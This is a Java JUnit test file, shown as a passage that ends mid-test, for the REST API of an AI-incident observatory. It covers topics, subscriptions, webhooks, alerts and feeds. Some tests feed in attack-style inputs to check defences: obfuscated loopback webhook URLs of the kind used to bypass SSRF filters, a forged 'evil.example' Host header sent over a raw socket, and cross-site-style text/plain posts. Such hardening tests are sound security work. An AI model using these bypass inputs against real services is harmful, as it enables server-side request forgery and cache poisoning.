package org.aigov.observatory.incidents;

import static org.junit.jupiter.api.Assertions.*;

import com.fasterxml.jackson.databind.JsonNode;
import io.javalin.Javalin;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.aigov.observatory.kernel.ApiException;
import org.aigov.observatory.kernel.Auth;
import org.aigov.observatory.kernel.Db;
import org.aigov.observatory.kernel.Json;
import org.aigov.observatory.kernel.Principal;
import org.aigov.observatory.kernel.Progress;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class IncidentsRoutesTest {
  @TempDir Path tmp;
  Db db;
  Javalin app;
  IncidentsRoutes routes;
  String base;
  final HttpClient http = HttpClient.newHttpClient();

  @BeforeEach
  void start() throws Exception {
    db = ClusterTest.loaded(tmp);
    new Clusterer(new Clusterer.Options(), Progress.silent()).run(db);
    app = Javalin.create();
    app.before(ctx -> {
      String h = ctx.header("Authorization");
      if ("Bearer editor".equals(h)) ctx.attribute(Auth.ATTR, new Principal("ed", "reviewer", null));
      if ("Bearer analyst".equals(h)) ctx.attribute(Auth.ATTR, new Principal("an", "analyst", null));
      if ("Bearer other".equals(h)) ctx.attribute(Auth.ATTR, new Principal("ot", "analyst", null));
      if ("Bearer reader".equals(h)) ctx.attribute(Auth.ATTR, new Principal("rd", "reviewer", null, java.util.Set.of("read")));
    });
    problems(app);
    routes = new IncidentsRoutes(db);
    routes.routes(app);
    app.start(0);
    base = "http://127.0.0.1:" + app.port();
  }

  /** Renders ApiException as WebServer does: title, detail and any extension members. */
  static void problems(Javalin app) {
    app.exception(ApiException.class, (e, ctx) -> {
      Map<String, Object> p = new java.util.LinkedHashMap<>(e.extensions);
      p.put("title", e.title);
      p.put("detail", e.getMessage());
      if (e.field != null) p.put("field", e.field);
      ctx.status(e.status).json(p);
    });
  }

  @AfterEach
  void stop() {
    app.stop();
    db.close();
  }

  HttpResponse<String> get(String path) throws Exception {
    return http.send(HttpRequest.newBuilder(URI.create(base + path)).GET().build(), HttpResponse.BodyHandlers.ofString());
  }

  HttpResponse<String> post(String path, String token, String body) throws Exception {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path)).POST(HttpRequest.BodyPublishers.ofString(body))
        .header("Content-Type", "application/json");
    if (token != null) b.header("Authorization", "Bearer " + token);
    return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
  }

  HttpResponse<String> send(String method, String path, String token, String body) throws Exception {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path)).method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body))
        .header("Content-Type", "application/json");
    if (token != null) b.header("Authorization", "Bearer " + token);
    return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
  }

  @Test
  void topicsAreChangedByTheirCreatorOrAnEditorAndKeepTheirHistory() throws Exception {
    assertEquals(201, post("/api/incidents/topics", "analyst", "{\"id\":\"fakes\",\"name_en\":\"Fakes\",\"terms_en\":[\"deepfake\"]}").statusCode());
    String change = "{\"name_en\":\"Deepfakes\",\"name_zh\":\"深度伪造\",\"terms_en\":[\"deepfake\",\"voice clone\"],\"terms_zh\":[\"深度伪造\"]}";
    assertEquals(401, send("PUT", "/api/incidents/topics/fakes", null, change).statusCode());
    assertEquals(403, send("PUT", "/api/incidents/topics/fakes", "other", change).statusCode());
    assertEquals(404, send("PUT", "/api/incidents/topics/nosuch", "editor", change).statusCode());
    HttpResponse<String> bad = send("PUT", "/api/incidents/topics/fakes", "analyst", "{\"name_en\":\"Deepfakes\",\"terms_en\":[\"a;b\"]}");
    assertEquals(400, bad.statusCode());
    assertTrue(bad.body().contains("terms_en"), bad.body());
    HttpResponse<String> ok = send("PUT", "/api/incidents/topics/fakes", "analyst", change);
    assertEquals(200, ok.statusCode(), ok.body());
    JsonNode t = Json.read(get("/api/incidents/topics/fakes").body());
    assertEquals("深度伪造", t.get("name").get("zh").asText());
    assertEquals(2, t.get("terms_en").size());
    assertEquals("an", t.get("updated_by").asText());
    assertEquals(403, send("PUT", "/api/incidents/topics/military", "analyst", change).statusCode(), "built in: editors only");
    assertEquals(409, send("DELETE", "/api/incidents/topics/military", "editor", null).statusCode(), "built in: never deleted");
    HttpResponse<String> unknown = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"x\",\"series\":\"topic=fakse\"}");
    assertEquals(400, unknown.statusCode());
    assertTrue(unknown.body().contains("fakse"), unknown.body());
    assertEquals(403, send("DELETE", "/api/incidents/topics/fakes", "other", null).statusCode());
    assertEquals(204, send("DELETE", "/api/incidents/topics/fakes", "editor", null).statusCode(), "an editor may delete anyone's");
    assertEquals(404, get("/api/incidents/topics/fakes").statusCode());
    JsonNode h = Json.read(get("/api/incidents/topics/fakes/history").body()).get("items");
    assertEquals(3, h.size());
    assertEquals("delete", h.get(2).get("action").asText());
    assertEquals("ed", h.get(2).get("changed_by").asText());
    assertEquals(404, get("/api/incidents/topics/never/history").statusCode());
  }

  /** A subscriber's webhook URL (often a secret) and its delivery log are theirs; another subscriber cannot silence it. */
  @Test
  void subscriptionsBelongToTheirSubscriber() throws Exception {
    HttpResponse<String> mine = post("/api/incidents/subscriptions", "analyst",
        "{\"name\":\"mine\",\"series\":\"topic=military&granularity=month\",\"webhook_url\":\"https://hooks.example.org/services/T0/B0/s3cr3t\"}");
    assertEquals(201, mine.statusCode(), mine.body());
    long id = Json.read(mine.body()).get("id").asLong();
    assertEquals(201, post("/api/incidents/subscriptions", "other", "{\"name\":\"theirs\",\"series\":\"granularity=month\"}").statusCode());
    String otherList = send("GET", "/api/incidents/subscriptions", "other", null).body();
    assertFalse(otherList.contains("s3cr3t"), "another subscriber's webhook URL is not shown: " + otherList);
    assertEquals(1, Json.read(otherList).get("items").size());
    assertEquals(2, Json.read(send("GET", "/api/incidents/subscriptions", "editor", null).body()).get("items").size(), "an editor sees all");
    // another subscriber learns no more than about an id that does not exist
    HttpResponse<String> theirs = send("GET", "/api/incidents/subscriptions/" + id + "/deliveries", "other", null);
    assertEquals(404, theirs.statusCode());
    assertEquals(send("GET", "/api/incidents/subscriptions/987654/deliveries", "other", null).body().replace("987654", "N"),
        theirs.body().replace(Long.toString(id), "N"), "the same answer as for a missing subscription");
    assertEquals(404, send("DELETE", "/api/incidents/subscriptions/" + id, "other", null).statusCode());
    assertEquals(404, send("DELETE", "/api/incidents/subscriptions/987654", "analyst", null).statusCode());
    assertEquals(200, send("GET", "/api/incidents/subscriptions/" + id + "/deliveries", "analyst", null).statusCode());
    // a delivery to retry, as the scan would queue one for the webhook
    long delivery = failedDelivery(id, "1999-01");
    HttpResponse<String> others = post("/api/incidents/deliveries/" + delivery + "/retry", "other", "");
    assertEquals(404, others.statusCode());
    // worded as for an id that does not exist: the subscription it belongs to had been named
    assertEquals(post("/api/incidents/deliveries/987654/retry", "other", "").body().replace("987654", "#"), others.body().replace(Long.toString(delivery), "#"));
    assertEquals("failed", IngestTest.one(db, "SELECT status FROM incident_deliveries WHERE id = " + delivery));
    assertEquals(202, post("/api/incidents/deliveries/" + delivery + "/retry", "analyst", "").statusCode());
    assertEquals("pending", IngestTest.one(db, "SELECT status FROM incident_deliveries WHERE id = " + delivery));
    assertEquals(5L, IngestTest.count(db, "SELECT attempts FROM incident_deliveries WHERE id = " + delivery), "the attempts go on counting");
    // a delivered one is not sent again: the receiver has it
    db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "UPDATE incident_deliveries SET status = 'delivered' WHERE id = ?", delivery));
    assertEquals(409, post("/api/incidents/deliveries/" + delivery + "/retry", "analyst", "").statusCode());
    assertEquals("delivered", IngestTest.one(db, "SELECT status FROM incident_deliveries WHERE id = " + delivery));
    assertEquals(404, post("/api/incidents/deliveries/987654/retry", "editor", "").statusCode());
    assertEquals(204, send("DELETE", "/api/incidents/subscriptions/" + id, "analyst", null).statusCode());
    // each subscription has an Atom feed, also one to all alerts (no series); an unknown id is 404
    long all = Json.read(post("/api/incidents/subscriptions", "analyst", "{\"name\":\"everything\"}").body()).get("id").asLong();
    HttpResponse<String> allFeed = get("/api/incidents/subscriptions/" + all + "/feed.atom");
    assertEquals(200, allFeed.statusCode(), allFeed.body());
    assertTrue(allFeed.body().contains("<feed"), allFeed.body());
    assertEquals(200, get("/api/incidents/subscriptions/" + id + "/feed.atom").statusCode());
    assertEquals(404, get("/api/incidents/subscriptions/987654/feed.atom").statusCode());
    assertEquals(204, send("DELETE", "/api/incidents/subscriptions/" + all, "analyst", null).statusCode());
    // one user holds at most twenty active subscriptions (each is a scan and a delivery per alert); an editor is not counted
    for (int i = 0; i < Alerts.MAX_SUBSCRIPTIONS_PER_USER; i++) { // each to its own receiver: the same twice is refused (below)
      assertEquals(201, post("/api/incidents/subscriptions", "analyst", "{\"name\":\"n" + i + "\",\"series\":\"granularity=month\","
          + "\"webhook_url\":\"https://hooks.example.org/n" + i + "\"}").statusCode());
    }
    HttpResponse<String> over = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"over\",\"series\":\"granularity=year\"}");
    assertEquals(409, over.statusCode());
    assertTrue(over.body().contains("stop one first"), over.body());
    assertEquals(201, post("/api/incidents/subscriptions", "editor", "{\"name\":\"ed\",\"series\":\"granularity=month\"}").statusCode());
  }

  /** Subscribing twice to the same series (same filters, granularity, share; same delivery) is a 409 naming the first, in both languages. */
  @Test
  void aSecondSubscriptionToTheSameSeriesIsRefusedNamingTheFirst() throws Exception {
    HttpResponse<String> first = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"Military AI · share · Month\",\"series\":\"granularity=month;topic=military;standardize=true\"}");
    assertEquals(201, first.statusCode(), first.body());
    long id = Json.read(first.body()).get("id").asLong();
    // the same series spelt another way (order, separator) is the same series
    HttpResponse<String> again = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"again\",\"series\":\"standardize=true&topic=military&granularity=month\"}");
    assertEquals(409, again.statusCode(), again.body());
    assertTrue(again.body().contains("you already subscribe to this series: subscription " + id + " (Military AI · share · Month)"), again.body());
    assertEquals("您已订阅此序列：订阅 " + id + "（Military AI · share · Month）；如需重新订阅，请先停止该订阅",
        org.aigov.observatory.kernel.ProblemText.zh(Json.read(again.body()).get("detail").asText()), "said in Chinese to a Chinese page");
    assertEquals(1L, IngestTest.count(db, "SELECT COUNT(*) FROM incident_subscriptions WHERE active = TRUE AND name LIKE 'Military AI%'"), "nothing more stored");
    // not a repeat: the count instead of the share, another granularity, a webhook, another account
    for (String series : new String[] {"granularity=month;topic=military", "granularity=week;topic=military;standardize=true"}) {
      assertEquals(201, post("/api/incidents/subscriptions", "analyst", "{\"name\":\"x\",\"series\":\"" + series + "\"}").statusCode(), series);
    }
    String hook = "{\"name\":\"hook\",\"series\":\"granularity=month;topic=military;standardize=true\",\"webhook_url\":\"https://hooks.example.org/dup\"}";
    assertEquals(201, post("/api/incidents/subscriptions", "analyst", hook).statusCode());
    HttpResponse<String> hookAgain = post("/api/incidents/subscriptions", "analyst", hook);
    assertEquals(409, hookAgain.statusCode());
    assertTrue(hookAgain.body().contains("with this webhook"), hookAgain.body());
    assertEquals(201, post("/api/incidents/subscriptions", "other", "{\"name\":\"theirs\",\"series\":\"granularity=month;topic=military;standardize=true\"}").statusCode());
    // once stopped, the series may be subscribed to again
    assertEquals(204, send("DELETE", "/api/incidents/subscriptions/" + id, "analyst", null).statusCode());
    assertEquals(201, post("/api/incidents/subscriptions", "analyst", "{\"name\":\"back\",\"series\":\"granularity=month;topic=military;standardize=true\"}").statusCode());
  }

  /** order=period lists the newest period first (a week by its Monday), not the newest found; the default stays as it was. */
  @Test
  void theMonitorsLeaseHolderIsShownToEditorsOnly() throws Exception {
    try (Monitor waits = new Monitor(db, Classifier.bundled(), new Monitor.Options())) {
      db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "UPDATE incident_monitor SET holder = 'node7.internal/4242/1/x', lease_until = ?"
          + " WHERE name = 'monitor'", java.time.Instant.now().plusSeconds(600)));
      JsonNode pub = Json.read(get("/api/incidents/monitor").body());
      assertEquals("waiting_for_lease", pub.get("state").asText(), pub.toString());
      assertTrue(pub.get("waiting_for_lease").has("until"), pub.toString());
      assertFalse(pub.toString().contains("node7") || pub.toString().contains("4242"), "host and pid are not public: " + pub);
      JsonNode ed = Json.read(send("GET", "/api/incidents/monitor", "editor", null).body());
      assertEquals("node7.internal/4242/1/x", ed.get("waiting_for_lease").get("holder").asText(), ed.toString());
      JsonNode an = Json.read(send("GET", "/api/incidents/monitor", "analyst", null).body());
      assertFalse(an.get("waiting_for_lease").has("holder"), "an analyst is not the secretariat: " + an);
    }
  }

  @Test
  void alertsInTheOrderOfTheirPeriods() throws Exception {
    String[][] found = {{"granularity=month", "month", "2024-03"}, {"granularity=year", "year", "2022"}, {"granularity=week", "week", "2024-W14"},
        {"granularity=day", "day", "2024-03-30"}, {"granularity=month;topic=military", "month", "2023-11"}};
    db.tx(c -> {
      for (String[] f : found) {
        org.aigov.observatory.kernel.Sql.update(c, "INSERT INTO incident_alerts (series_key, granularity, period, count_value, baseline, probability, method,"
            + " explanation, created_at, backfill) VALUES (?,?,?,3,1.0,0.001,'poisson','{}',?,FALSE)", f[0], f[1], f[2], java.time.Instant.now());
      }
      return null;
    });
    java.util.List<String> byPeriod = new java.util.ArrayList<>();
    for (JsonNode a : Json.read(get("/api/incidents/alerts?order=period").body()).get("items")) byPeriod.add(a.get("period").asText());
    assertEquals(java.util.List.of("2024-W14", "2024-03-30", "2024-03", "2023-11", "2022"), byPeriod, "2024-W14 starts on 1 April 2024");
    java.util.List<String> byDetection = new java.util.ArrayList<>();
    for (JsonNode a : Json.read(get("/api/incidents/alerts?limit=2").body()).get("items")) byDetection.add(a.get("period").asText());
    assertEquals(java.util.List.of("2023-11", "2024-03-30"), byDetection, "the newest found first, as before");
    assertEquals(java.util.List.of("2024-W14", "2024-03-30"), java.util.List.of(
        Json.read(get("/api/incidents/alerts?order=period&limit=2").body()).get("items").get(0).get("period").asText(),
        Json.read(get("/api/incidents/alerts?order=period&limit=2").body()).get("items").get(1).get("period").asText()));
    HttpResponse<String> bad = get("/api/incidents/alerts?order=newest");
    assertEquals(400, bad.statusCode());
    assertTrue(bad.body().contains("order"), bad.body());
    // a malformed id is a 400 naming the parameter; a well-formed id of no alert is 404
    for (String id : new String[] {"abc", "-1", "0", "%2B7", "99999999999999999999"}) {
      HttpResponse<String> malformed = get("/api/incidents/alerts?id=" + id);
      assertEquals(400, malformed.statusCode(), id);
      assertEquals("id", Json.read(malformed.body()).get("field").asText(), malformed.body());
    }
    assertEquals(404, get("/api/incidents/alerts?id=987654321").statusCode());
    long known = Json.read(get("/api/incidents/alerts?limit=1").body()).get("items").get(0).get("id").asLong();
    assertEquals(known, Json.read(get("/api/incidents/alerts?id=" + known).body()).get("id").asLong());
    // one alert is no list: a series, order or limit beside the id is refused, not ignored (outside QA, 2026-12-07)
    for (String other : new String[] {"series=all", "order=period", "limit=5"}) {
      HttpResponse<String> both = get("/api/incidents/alerts?id=" + known + "&" + other);
      assertEquals(400, both.statusCode(), other);
      assertEquals(other.substring(0, other.indexOf('=')), Json.read(both.body()).get("field").asText(), both.body());
    }
  }

  /** Found by an outside QA pass over alerts and webhooks on 2026-12-07: each had been taken, or refused in misleading words. */
  @Test
  void webhookAddressesAndScanWindowsAreCheckedAsWritten() throws Exception {
    String[][] cases = {
        {"\"\"", "leave the field out for the Atom feed alone"},
        {"\"http://例子.测试/hook\"", "character 8 is a space, a control or a non-ASCII character"},
        {"\"http://203.0.113.5/路径?q=无人机\"", "character 20 is"},
        {"\"http://203.0.113.5/a b\"", "character 21 is"},
        {"\"http://0177.0.0.1:18101/\"", "host 0177.0.0.1 is not an IPv4 address as written"},
        {"\"http://127.1:18101/\"", "host 127.1 is not an IPv4 address as written"},
        // hex, whole or in part (outside QA, 2026-12-07: 0x7f000001 was taken, and then never delivered to)
        {"\"http://0x7f000001:19001/x\"", "host 0x7f000001 is not an IPv4 address as written"},
        {"\"http://0X7F.0.0.1/\"", "host 0X7F.0.0.1 is not an IPv4 address as written"},
        {"\"http://hooks.example.0x10/\"", "host hooks.example.0x10 is not an IPv4 address as written"},
        {"\"http://127.0.0.1./\"", "host 127.0.0.1. is not an IPv4 address as written"}};
    for (String[] c : cases) {
      HttpResponse<String> r = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"w\",\"webhook_url\":" + c[0] + "}");
      assertEquals(400, r.statusCode(), c[0] + ": " + r.body());
      assertEquals("webhook_url", Json.read(r.body()).get("field").asText(), r.body());
      assertTrue(r.body().contains(c[1]), c[0] + ": " + r.body());
    }
    HttpResponse<String> w = post("/api/incidents/alerts/scan?window=2", "editor", "");
    assertEquals(400, w.statusCode(), w.body());
    assertTrue(w.body().contains("expected 3..1000 periods, got 2"), w.body());
    assertEquals(200, post("/api/incidents/alerts/scan?window=3", "editor", "").statusCode());
  }

  @Test
  void recordsFeedForOtherMonitorsWithConditionalGet() throws Exception {
    HttpResponse<String> r = get("/api/incidents/records.atom?limit=5");
    assertEquals(200, r.statusCode());
    assertTrue(r.headers().firstValue("Content-Type").orElse("").startsWith("application/atom+xml"));
    assertEquals(5, r.body().split("<entry").length - 1);
    String etag = r.headers().firstValue("ETag").orElseThrow();
    HttpResponse<String> same = http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/records.atom?limit=5"))
        .header("If-None-Match", etag).GET().build(), HttpResponse.BodyHandlers.ofString());
    assertEquals(304, same.statusCode());
    assertEquals("", same.body());
    // a list, a weak tag or "*" match too (RFC 9110), as the registry's records do (outside QA, 2026-12-07)
    for (String header : new String[] {"\"zz\", " + etag, "W/" + etag, "*"}) {
      HttpResponse<String> m = http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/records.atom?limit=5"))
          .header("If-None-Match", header).GET().build(), HttpResponse.BodyHandlers.ofString());
      assertEquals(304, m.statusCode(), header);
    }
    HttpResponse<String> other = http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/records.atom?limit=4"))
        .header("If-None-Match", etag).GET().build(), HttpResponse.BodyHandlers.ofString());
    assertEquals(200, other.statusCode(), "another query, another body");
    HttpResponse<String> bad = get("/api/incidents/records.atom?limit=0");
    assertEquals(400, bad.statusCode());
    assertTrue(bad.body().contains("limit"), bad.body());
    // outside QA: a misspelt filter answered every record; a peer must hear that its filter means nothing
    HttpResponse<String> typo = get("/api/incidents/records.atom?topc=military");
    assertEquals(400, typo.statusCode(), typo.body());
    assertEquals("topc", Json.read(typo.body()).get("field").asText(), typo.body());
    assertEquals(200, get("/api/incidents/records.atom?topic=military&record_source=aiid&from=2020-01-01").statusCode(), "its own filters still pass");
    // a full page links the next (RFC 5005), which keeps the filters and gives the records below the page's last
    java.util.regex.Matcher next = java.util.regex.Pattern.compile("<link rel=\"next\" href=\"([^\"]+)\"/>").matcher(r.body());
    assertTrue(next.find(), r.body());
    assertTrue(next.group(1).matches(".*/api/incidents/records\\.atom\\?limit=5&amp;before=[1-9][0-9]*"), next.group(1));
    HttpResponse<String> page2 = get(next.group(1).replace("&amp;", "&").replaceFirst("^https?://[^/]+", ""));
    assertEquals(200, page2.statusCode(), page2.body());
    assertEquals(5, page2.body().split("<entry").length - 1);
    assertFalse(java.util.regex.Pattern.compile("<id>([^<]+)</id>").matcher(page2.body()).results().map(m -> m.group(1))
        .filter(id -> id.startsWith("urn:aigov-observatory:record:")).anyMatch(r.body()::contains), "page 2 repeats nothing of page 1");
    for (String b : new String[] {"0", "-3", "x", "1.5", "05", "99999999999999999999", "9999999999999999999"}) {
      HttpResponse<String> nb = get("/api/incidents/records.atom?before=" + b);
      assertEquals(400, nb.statusCode(), b);
      assertEquals("before", Json.read(nb.body()).get("field").asText(), nb.body());
      // a whole number over 2^63 - 1 is too large, not "no whole number" (outside QA); 19 nines had been a 500
      assertTrue(nb.body().contains(b.startsWith("9") ? "too large: at most 9223372036854775807" : "expected a record id"), nb.body());
    }
    assertEquals(200, get("/api/incidents/records.atom?before=9223372036854775807").statusCode());
  }

  @Test
  void listGetRecordsTrendsFeed() throws Exception {
    HttpResponse<String> list = get("/api/incidents?limit=5");
    assertEquals(200, list.statusCode());
    JsonNode l = Json.read(list.body());
    assertTrue(l.get("total").asLong() >= 10);
    assertEquals(5, l.get("items").size());
    JsonNode search = Json.read(get("/api/incidents?q=knightscope").body());
    assertTrue(search.get("total").asLong() >= 1, search.toString());
    assertFalse(search.has("relaxed") || search.has("fuzzy"), "found as written");
    JsonNode loose = Json.read(get("/api/incidents?q=knightscope%20unicorn").body());
    assertEquals(search.get("items").get(0).get("id"), loose.get("items").get(0).get("id"), loose.toString());
    assertTrue(loose.get("relaxed").asBoolean(), loose.toString());
    JsonNode near = Json.read(get("/api/incidents?q=knigthscope").body());
    java.util.function.Function<JsonNode, java.util.Set<Long>> ids = n -> {
      java.util.Set<Long> out = new java.util.HashSet<>();
      n.get("items").forEach(i -> out.add(i.get("id").asLong()));
      return out;
    };
    assertEquals(ids.apply(search), ids.apply(near), near.toString());
    assertTrue(near.get("fuzzy").asBoolean(), near.toString());
    long id = search.get("items").get(0).get("id").asLong();
    JsonNode one = Json.read(get("/api/incidents/" + id).body());
    assertTrue(one.get("records").size() >= 1);
    JsonNode recs = Json.read(get("/api/incidents/" + id + "/records").body());
    assertTrue(recs.get("items").get(0).has("source_id"));
    double conf = recs.get("items").get(0).get("risk_domain_confidence").asDouble();
    assertTrue(conf > 0 && conf <= 1, recs.toString());
    assertEquals(404, get("/api/incidents/999999").statusCode());
    HttpResponse<String> badMethod = get("/api/incidents/trends?granularity=month&spikes=1&method=bogus");
    assertEquals(400, badMethod.statusCode());
    assertTrue(badMethod.body().contains("negbin"), badMethod.body());
    assertTrue(Json.read(get("/api/incidents/trends?granularity=year&spikes=1&method=negbin").body()).has("spikes"));
    // yes/no parameters say no as well as yes, and anything else is refused by name ("spikes=0" had turned spikes on)
    for (String no : List.of("spikes=0", "spikes=false", "spikes=no", "standardize=off"))
      assertFalse(Json.read(get("/api/incidents/trends?granularity=year&" + no).body()).toString().matches(".*\"(spikes|standardized)\".*"), no);
    assertTrue(Json.read(get("/api/incidents/trends?granularity=year&standardize=yes&topic=military").body()).get("series").get(0).has("standardized"));
    assertTrue(Json.read(get("/api/incidents/trends?granularity=year&spikes").body()).has("spikes"), "a bare flag is yes");
    for (String bad : List.of("spikes=maybe", "standardize=2")) {
      HttpResponse<String> r = get("/api/incidents/trends?granularity=year&" + bad);
      assertEquals(400, r.statusCode(), bad);
      assertEquals(bad.substring(0, bad.indexOf('=')), Json.read(r.body()).get("field").asText(), r.body());
    }
    assertEquals(404, get("/api/incidents/abc").statusCode());
    HttpResponse<String> csv = get("/api/incidents/trends?granularity=year&format=csv&split=source");
    assertEquals(200, csv.statusCode());
    assertTrue(csv.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
    assertTrue(csv.body().startsWith("period,series,count,total,standardized,series_en,series_zh"), csv.body());
    assertTrue(csv.body().lines().skip(1).anyMatch(row -> row.matches("\\d{4},aiid,\\d+,\\d+,,AI Incident Database,AI 事件数据库")), csv.body());
    JsonNode tj = Json.read(get("/api/incidents/trends?granularity=month&topic=military&standardize=true").body());
    assertEquals("month", tj.get("granularity").asText());
    assertEquals(400, get("/api/incidents/trends?granularity=hour").statusCode());
    HttpResponse<String> feed = get("/api/incidents/feed.atom");
    assertEquals(200, feed.statusCode());
    assertTrue(feed.body().contains("http://www.w3.org/2005/Atom"));
  }

  /** A feed's self link follows the Host header a client sends only while the operator has not named the public address. */
  @Test
  void feedSelfLinksUseTheConfiguredPublicAddressNotTheHostHeader() throws Exception {
    String saved = System.getProperty("obs.publicUrl");
    try {
      System.clearProperty("obs.publicUrl");
      org.aigov.observatory.kernel.PublicUrl.reload();
      String hosted = rawGet("/api/incidents/feed.atom", "evil.example");
      assertTrue(hosted.contains("href=\"http://evil.example/api/incidents/feed.atom\""));
      // a shared cache keys such an answer by the Host it was asked with, so a forged host reaches only its own sender
      String headers = hosted.substring(0, hosted.indexOf("\r\n\r\n")).toLowerCase(java.util.Locale.ROOT);
      assertTrue(headers.matches("(?s).*\r\nvary:[^\r]*\\bhost\\b.*"), headers);
      System.setProperty("obs.publicUrl", "https://observatory.example.org/");
      org.aigov.observatory.kernel.PublicUrl.reload();
      for (String path : List.of("/api/incidents/feed.atom?series=granularity%3Dmonth", "/api/incidents/records.atom?limit=2")) {
        String body = rawGet(path, "evil.example");
        assertFalse(body.contains("evil.example"), body);
        assertFalse(body.substring(0, body.indexOf("\r\n\r\n")).toLowerCase(java.util.Locale.ROOT).matches("(?s).*\r\nvary:[^\r]*\\bhost\\b.*"),
            "the Host header is not read then");
        assertTrue(body.contains("<link rel=\"self\" href=\"https://observatory.example.org" + path.replace("&", "&amp;") + "\"/>"), body);
      }
    } finally {
      if (saved == null) System.clearProperty("obs.publicUrl");
      else System.setProperty("obs.publicUrl", saved);
      org.aigov.observatory.kernel.PublicUrl.reload();
    }
  }

  /** A GET with the Host header chosen (Java's HTTP client will not send a forged one). */
  private String rawGet(String path, String host) throws Exception {
    URI u = URI.create(base);
    try (java.net.Socket sock = new java.net.Socket(u.getHost(), u.getPort())) {
      sock.getOutputStream().write(("GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n").getBytes(java.nio.charset.StandardCharsets.US_ASCII));
      return new String(sock.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
    }
  }

  /** A report is read as strictly as any body, and only as JSON: a text/plain post is what a cross-site HTML form sends. */
  @Test
  void aReportIsJsonWithKnownFieldsOnly() throws Exception {
    HttpResponse<String> bogus = post("/api/incidents/reports", null, "{\"title\":\"t\",\"text\":\"x\",\"bogus\":1}");
    assertEquals(400, bogus.statusCode(), bogus.body());
    assertEquals("bogus", Json.read(bogus.body()).get("field").asText());
    assertTrue(Json.read(bogus.body()).get("detail").asText().startsWith("bogus: unknown field; known fields are "), bogus.body());
    // a country the monitor cannot place is refused naming the field, as the `country` filter refuses it, not dropped
    HttpResponse<String> xx = post("/api/incidents/reports", null, "{\"title\":\"x\",\"text\":\"t3\",\"countries\":[\"XX\"]}");
    assertEquals(400, xx.statusCode(), xx.body());
    assertEquals("countries", Json.read(xx.body()).get("field").asText());
    assertTrue(xx.body().contains("unknown country 'XX'"), xx.body());
    for (String type : new String[] {"text/plain", "application/x-www-form-urlencoded", "application/jsonp", "application/json-seq", null}) {
      HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + "/api/incidents/reports"))
          .POST(HttpRequest.BodyPublishers.ofString("{\"title\":\"Robot riot in the harbour\",\"text\":\"x\"}"));
      if (type != null) b.header("Content-Type", type);
      HttpResponse<String> r = http.send(b.build(), HttpResponse.BodyHandlers.ofString());
      assertEquals(415, r.statusCode(), type + ": " + r.body());
      assertEquals("Content-Type", Json.read(r.body()).get("field").asText());
      assertTrue(r.body().contains("application/json"), r.body());
    }
    assertEquals(0, IngestTest.count(db, "SELECT COUNT(*) FROM incident_records WHERE title LIKE 'Robot riot in the harbour%'"));
  }

  /**
   * A read-only token writes nothing; an account other than an editor's reports under its name, and its reports wait for
   * review like anonymous ones (a flood from one account must not raise alerts either), at most so many a minute.
   */
  @Test
  void readOnlyTokensWriteNothingAndAccountsReportsWaitForReview() throws Exception {
    String report = "{\"url\":\"https://acct.example/%d\",\"title\":\"Military robot riot %d in the harbour\",\"published\":\"2024-06-02\"}";
    HttpResponse<String> refused = post("/api/incidents/reports", "reader", String.format(report, 0, 0));
    assertEquals(403, refused.statusCode());
    assertTrue(Json.read(refused.body()).get("detail").asText().contains("allow reading only"), refused.body());
    assertEquals(403, post("/api/incidents/topics", "reader", "{\"id\":\"mine\",\"name_en\":\"Mine\",\"terms_en\":[\"drone\"]}").statusCode());
    assertEquals(403, post("/api/incidents/subscriptions", "reader", "{\"name\":\"s\",\"series\":\"topic=military\"}").statusCode());
    HttpResponse<String> scan = post("/api/incidents/alerts/scan", "reader", "");
    assertEquals(403, scan.statusCode());
    assertTrue(scan.body().contains("scopes [read]"), "a reviewer's read-only token is told why: " + scan.body());
    assertEquals(0, IngestTest.count(db, "SELECT COUNT(*) FROM incident_records WHERE url LIKE 'https://acct.example/%'"));

    long incidentsBefore = IngestTest.count(db, "SELECT COUNT(*) FROM incidents");
    HttpResponse<String> r = post("/api/incidents/reports", "analyst", String.format(report, 1, 1));
    assertEquals(201, r.statusCode(), r.body());
    assertEquals("pending", Json.read(r.body()).get("review").asText());
    assertEquals(200, post("/api/incidents/cluster", "editor", "").statusCode());
    assertEquals(incidentsBefore, IngestTest.count(db, "SELECT COUNT(*) FROM incidents"), "an account's report waits before it counts");
    JsonNode queue = Json.read(http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/reports/pending")).header("Authorization", "Bearer editor")
        .GET().build(), HttpResponse.BodyHandlers.ofString()).body());
    assertEquals("an", queue.get("items").get(0).get("submitted_by").asText(), "the queue names the sender: " + queue);
    HttpResponse<String> byEditor = post("/api/incidents/reports", "editor", String.format(report, 2, 2));
    assertEquals(201, byEditor.statusCode());
    assertNull(Json.read(byEditor.body()).get("review"), "an editor's report counts at once");

    routes.perSender = org.aigov.observatory.kernel.PerMinute.stored("incident_reports_sender", 2, db, java.time.Clock.fixed(java.time.Instant.parse("2026-12-02T10:00:30Z"), java.time.ZoneOffset.UTC));
    assertEquals(201, post("/api/incidents/reports", "other", String.format(report, 3, 3)).statusCode());
    assertEquals(201, post("/api/incidents/reports", "other", String.format(report, 4, 4)).statusCode());
